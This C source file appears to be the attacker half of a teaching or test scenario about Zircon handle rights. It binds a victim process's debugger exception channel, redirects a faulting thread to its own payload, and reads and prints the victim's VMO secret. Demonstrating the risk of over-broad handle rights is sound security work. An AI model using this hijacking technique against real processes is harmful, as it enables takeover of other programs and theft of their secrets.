/* attacker.c — the exception_hijack scenario's attacker: turns a handle to
 * another process into control of its threads.
 *
 * Steps (each printed): 1. look at the rights of the handle it was given;
 * 2. zx_task_create_exception_channel(victim, ZX_EXCEPTION_CHANNEL_DEBUGGER)
 * — needs INSPECT, DUPLICATE, TRANSFER, MANAGE_THREAD and ENUMERATE on the
 * process; a debugger channel is asked first when any thread faults;
 * 3. wait for the victim's crash and take the exception; 4. get the
 * faulting thread (the exception hands out a thread handle with the rights
 * the channel was bound with), read its registers, point pc at
 * attacker_payload with two arguments; 5. mark the exception HANDLED and
 * close it: Zircon resumes the thread — at the new pc, inside the victim.
 *
 * The payload runs on the victim's thread, so every syscall it makes uses
 * the victim's handle table: it lists that table (ZX_INFO_HANDLE_TABLE on
 * zx_process_self(), which is now the victim), finds the VMO and prints its
 * contents, then exits the victim with HIJACK_PWNED_CODE. Its code stays in
 * the attacker's loaded copy, which is why the attacker waits for the
 * victim to end before it exits (in Zircon the payload would be written
 * into the victim's memory first; that step is left out here). Nothing
 * printed depends on host addresses (pc values are never printed).
 * Returns 0 when the hijack worked, 1 when the bind was refused, 2 else.
 */
#include <stdio.h>
#include <string.h>
#include <zircon/process.h>
#include <zircon/processargs.h>
#include <zircon/status.h>
#include <zircon/syscalls.h>
#include <zircon/syscalls/debug.h>
#include <zircon/syscalls/exception.h>
#include <zircon/syscalls/object.h>

#include "actor.h"
#include "attack_actor.h"
#include "hijack.h"

/* Runs inside the victim (see the file comment). */
static void attacker_payload(uintptr_t marker, uintptr_t unused)
{
    (void)unused;
    char name[ZX_MAX_NAME_LEN] = {0};
    zx_object_get_property(zx_process_self(), ZX_PROP_NAME, name, sizeof name);
    printf("payload: running in process '%s' (marker %#lx)\n", name, (unsigned long)marker);
    zx_info_handle_extended_t tab[32];
    size_t n = 0;
    zx_object_get_info(zx_process_self(), ZX_INFO_HANDLE_TABLE, tab, sizeof tab, &n, NULL);
    for (size_t i = 0; i < n; i++) {
        char buf[64] = {0};
        if (tab[i].type == ZX_OBJ_TYPE_VMO &&
            zx_vmo_read(tab[i].handle_value, buf, 0, sizeof buf - 1) == ZX_OK && buf[0])
            printf("payload: stole the victim's secret: \"%s\"\n", buf);
    }
    zx_process_exit(HIJACK_PWNED_CODE);
}

static void attacker_point_at_payload(zx_thread_state_general_regs_t *r)
{
    uintptr_t pc = (uintptr_t)attacker_payload, arg0 = 0x1badc0de;
#if defined(__x86_64__)
    r->rip = pc;
    r->rdi = arg0;
    r->rsi = 0;
#elif defined(__aarch64__)
    r->pc = pc;
    r->r[0] = arg0;
    r->r[1] = 0;
#else
    r->pc = pc;
    r->a0 = arg0;
    r->a1 = 0;
#endif
}

/* Steps 3-5 on a bound channel. */
static int attacker_hijack(zx_handle_t channel)
{
    zx_exception_info_t info;
    zx_handle_t exc = ZX_HANDLE_INVALID, thread = ZX_HANDLE_INVALID;
    if (zx_object_wait_one(channel, ZX_CHANNEL_READABLE, ZX_TIME_INFINITE, NULL) != ZX_OK ||
        zx_channel_read(channel, 0, &info, &exc, sizeof info, 1, NULL, NULL) != ZX_OK)
        return 2;
    printf("attacker: the victim's thread faulted (exception type %#x); it is stopped\n",
           info.type);
    zx_thread_state_general_regs_t regs;
    if (zx_exception_get_thread(exc, &thread) != ZX_OK ||
        zx_thread_read_state(thread, ZX_THREAD_STATE_GENERAL_REGS, &regs, sizeof regs) != ZX_OK)
        return 2;
    attacker_point_at_payload(&regs);
    zx_status_t s = zx_thread_write_state(thread, ZX_THREAD_STATE_GENERAL_REGS, &regs, sizeof regs);
    printf("attacker: rewrote its registers (pc = my payload): %s\n", zx_status_get_string(s));
    uint32_t handled = ZX_EXCEPTION_STATE_HANDLED;
    if (s != ZX_OK || zx_object_set_property(exc, ZX_PROP_EXCEPTION_STATE, &handled,
                                             sizeof handled) != ZX_OK)
        return 2;
    zx_handle_close(exc); /* HANDLED: the thread resumes at the new pc */
    printf("attacker: marked the exception handled; the victim resumes in my code\n");
    return 0;
}

int hijack_attacker_main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    zx_handle_t victim = zx_take_startup_handle(PA_HND(PA_USER0, 0));
    zx_info_handle_basic_t basic;
    if (zx_object_get_info(victim, ZX_INFO_HANDLE_BASIC, &basic, sizeof basic, NULL, NULL) != ZX_OK)
        return 2;
    char names[256];
    printf("attacker: my handle to the victim's process has rights %s (MANAGE_THREAD %s)\n",
           actor_rights(basic.rights, names, sizeof names), (basic.rights & ZX_RIGHT_MANAGE_THREAD) ? "yes" : "no");
    zx_handle_t channel;
    zx_status_t s = zx_task_create_exception_channel(victim, ZX_EXCEPTION_CHANNEL_DEBUGGER,
                                                     &channel);
    printf("attacker: bind the victim's debugger exception channel: %s\n",
           zx_status_get_string(s));
    if (s != ZX_OK) {
        printf("attacker: cannot intercept the victim's faults; giving up\n");
        return 1;
    }
    int r = attacker_hijack(channel);
    /* The payload's code lives in this process's copy: stay until it ends. */
    int64_t rc = attack_wait_retcode(victim);
    printf("attacker: the victim ended with %lld\n", (long long)rc);
    return r == 0 && rc == HIJACK_PWNED_CODE ? 0 : 2;
}
